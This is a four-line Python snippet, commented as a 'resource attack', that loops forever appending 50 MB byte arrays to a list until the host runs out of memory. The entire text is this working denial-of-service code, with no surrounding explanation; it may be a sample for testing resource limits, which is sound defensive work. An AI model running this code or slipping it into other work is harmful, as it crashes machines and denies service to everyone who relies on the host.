# Resource attack: allocate until the host runs out of memory.
hoard = []
while True:
    hoard.append(bytearray(50 * 1024 * 1024))
